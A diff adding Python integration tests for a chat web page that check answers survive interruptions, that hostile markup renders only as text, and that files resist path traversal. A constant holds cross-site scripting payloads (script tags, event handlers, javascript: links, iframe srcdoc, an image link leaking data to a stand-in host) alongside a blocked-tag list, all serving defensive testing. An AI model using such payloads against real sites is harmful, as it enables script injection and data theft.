@@ -1,0 +1,141 @@
+"""The page at `/` in Chromium: answers over interruptions, hostile answers, and what a client without a key sees."""
+
+import asyncio
+import subprocess
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from tailrace.deploy.local.nats_server import NatsServer
+from tailrace.proto.ids import SessionId, Tenant, TurnId, new_id
+from tailrace.proto.nats import TurnLog
+from tailrace.proto.subjects import TurnKey
+from tests.clients import node
+from tests.harness.generator_in_loop import words
+from tests.harness.persistence_in_loop import Persistence
+from tests.harness.processes import CHECKOUT
+from tests.harness.proxy import Proxy
+from tests.harness.system import System
+from tests.harness.turn_writer import Writer
+from tests.harness.until import until
+from tests.integration.conftest import KEY, Gateway, NewGateway
+
+WORDS = 700
+NEVER = {"script", "img", "svg", "math", "iframe", "form", "input", "style", "base", "meta"}
+HOSTILE = """<script>globalThis.ran = 1</script><img src=x onerror="globalThis.ran = 1">
+
+<svg onload="globalThis.ran = 1"><a xlink:href="javascript:ran"><animate></svg>
+<math><mtext><style><img src=x onerror="globalThis.ran = 1">
+
+![secret](https://elsewhere.invalid/?q=secret) [run](javascript:globalThis.ran=1)
+[data](data:text/html,x) [good](https://good.invalid/)
+
+<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
+<form action="https://elsewhere.invalid"><input id="question" name=x></form>
+
+```python onload=x class="notice"
+print("</code><script>globalThis.ran = 1</script>")
+```
+
+<style>body { display: none }</style><base href="https://elsewhere.invalid/">
+<meta http-equiv=refresh content="0;url=/ops">
+
+<https://good.invalid/?"onmouseover="ran> `<b onclick=ran>` &lt;img src=x onerror=ran&gt; | [x]: javascript:ran
+"""
+
+
+@pytest.mark.timeout(120)
+async def test_an_answer_is_shown_once_over_a_reload_a_lost_network_and_another_gateway(
+    open_gateway: Gateway, new_gateway: NewGateway, system: System, browser: str
+) -> None:
+    """The first gateway is gone in the middle of the answer; a second one serves the same address."""
+    other = await new_gateway(system.nats_url, api_keys="")
+
+    async with Proxy("browser > gateway", open_gateway.port) as proxy:
+        line = f"Count.\n#sim words={WORDS} rate=40"
+        url = f"http://127.0.0.1:{proxy.port}"
+        showing = asyncio.create_task(
+            node.run("chat-page.mjs", "interrupted", url, line, deadline_s=90, CHROMIUM=browser)
+        )
+
+        async def is_written() -> bool:
+            running = (await other.client.get("/v1/turns?status=running")).json()["data"]
+            if not running:
+                return False
+            return len((await other.client.get(f"/v1/turns/{running[-1]['turn']}")).json()["text"]) > 8 * 550
+
+        await until(is_written, 60)
+        proxy.fail("cut")
+        proxy._to = other.port
+        await open_gateway.stop()
+        proxy.mend()
+        (seen,) = await showing
+    assert seen == {
+        "text": words(WORDS),
+        "answers": 1,
+        "title": "Count. \N{EN DASH} Tailrace",
+        "isReadWordByWord": False,
+        "complaints": [],
+        "elsewhere": [],
+    }
+    [newest] = (await other.client.get("/v1/sessions?limit=1")).json()["data"]
+    assert (newest["title"], newest["turns"]) == ("Count.", 1)
+
+
+@pytest.mark.rule("S8")
+@pytest.mark.timeout(120)
+async def test_a_hostile_answer_changes_nothing_but_text_and_the_page_shows_nothing_without_a_key(
+    own_server: NatsServer, own_log: TurnLog, new_gateway: NewGateway, tenant: Tenant, browser: str, tmp_path: Path
+) -> None:
+    """Markup of an answer neither runs nor loads; the policy is obeyed. Light and dark, on a desktop and a phone."""
+    async with Persistence(own_server.url, tmp_path / "tailrace.db"):
+        gateway = await new_gateway(own_server.url)
+        session = {"id": "hostile", "title": HOSTILE[:200], "system_prompt": HOSTILE}
+        assert (await gateway.client.post("/v1/sessions", json=session)).status_code == 201
+        writer = Writer(own_log, TurnKey(tenant, TurnId(new_id())))
+        await writer.ask(session=SessionId("hostile"))
+        await writer.begin(*HOSTILE.splitlines(keepends=True))
+        await writer.end()
+        steps = "hostile", gateway.url, "hostile", tmp_path, KEY
+        (seen,) = await node.run("chat-page.mjs", *steps, deadline_s=90, CHROMIUM=browser)
+    for page in seen["pages"]:
+        assert (page["complaints"], page["elsewhere"], page["ran"], page["isWide"]) == ([], [], None, False)
+        assert page["withoutKey"] == [401]
+        assert NEVER & set(page["made"]) == set()
+        assert set(page["attributes"]) <= {"class", "href", "target", "rel", "type", "tabindex"}
+        assert {protocol for protocol, _, _ in page["links"]} <= {"https:", ":"}
+        assert "<script>globalThis.ran = 1</script>" in page["text"]
+        assert page["coloured"] > 0
+    assert len({page["background"] for page in seen["pages"]}) == 2
+
+
+async def test_browsers_receive_a_page_without_a_key_and_other_clients_the_routes(gateway: Gateway) -> None:
+    """The page and its files are the same for every client, hold no data, and lie in one folder."""
+    async with gateway.new_client() as client:
+        del client.headers["authorization"]
+        page = await client.get("/", headers={"accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
+        text = await client.get("/", headers={"accept": "*/*"})
+        routes = await client.get("/", headers={"accept": "application/json"})
+        files = [
+            (await client.get(f"/page/{name}")).status_code
+            for name in ("page.js", "index.py", "page.html", "..%2fapp.py")
+        ]
+    assert page.headers["content-type"] == "text/html; charset=utf-8"
+    assert page.text.startswith("<!doctype html>")
+    assert text.text.startswith("Tailrace ")
+    assert "/page/{file}" in routes.json()["endpoints"]
+    assert {one.headers["vary"] for one in (page, text, routes)} == {"accept"}
+    assert files == [200, 404, 404, 404]
+
+
+def test_a_fresh_build_of_the_libraries_gives_the_committed_bytes(tmp_path: Path) -> None:
+    web = CHECKOUT / "web"
+    if not (web / "node_modules").is_dir():
+        pytest.skip("the libraries of the page are not installed: run `make clients`")
+    built = tmp_path / "libraries.js"
+    subprocess.run([node.NODE, web / "build.mjs", built], check=True, timeout=60)
+    assert built.read_bytes() == (CHECKOUT / "gateway/page/libraries.js").read_bytes()
+    packages = msgspec.json.decode((web / "package-lock.json").read_bytes())["packages"]
+    pinned = [one for name, one in packages.items() if name]
+    assert all("integrity" in one and "resolved" not in one for one in pinned)
